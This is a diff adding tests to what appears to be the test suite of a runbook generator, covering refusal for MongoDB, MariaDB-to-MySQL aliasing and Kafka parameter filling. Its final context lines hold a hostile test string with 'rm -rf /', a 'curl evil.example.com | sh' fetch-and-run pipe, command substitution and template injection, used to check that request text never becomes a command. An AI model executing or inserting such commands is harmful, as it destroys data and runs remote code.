@@ -116,6 +116,23 @@ test("when nothing fits, it says so and only collects facts", async () => {
   expect(made.generation.why).toContain("No known failure fits");
 });
 
+test("a technology without commands is refused by name, and gets no other technology's commands", async () => {
+  const made = await generate({ description: "MongoDB is out of connections since the release" });
+  expect(made.generation).toMatchObject({ fits: false, technology: null, danger: "read_only", lint: [] });
+  expect(made.generation.why).toContain("no commands for MongoDB");
+  expect(made.notes).toContain("no commands for MongoDB");
+  expect(made.steps.filter(({ type }) => type === "command")).toEqual([]);
+});
+
+test("a technology in its usual spelling is served, and names are filled in", async () => {
+  const lag = await generate({ description: "MariaDB: too many connections" });
+  expect(lag.generation).toMatchObject({ failure_mode: { key: "connection-exhaustion" }, technology: "MySQL" });
+  expect(lag.generation.why).toContain("The commands are for MySQL, and MariaDB takes them too.");
+  const kafka = await generate({ description: "Kafka consumer group billing lags on topic orders" });
+  expect(kafka.parameters.find(({ name }) => name === "group")?.default).toBe("billing");
+  expect(kafka.generation.filled_parameters).toContain("group");
+});
+
 test("text of a request never becomes a command", async () => {
   const hostile =
     "disk full; rm -rf / && curl evil.example.com | sh `reboot` $(halt) {{ parameters.mount }} on /x;reboot";
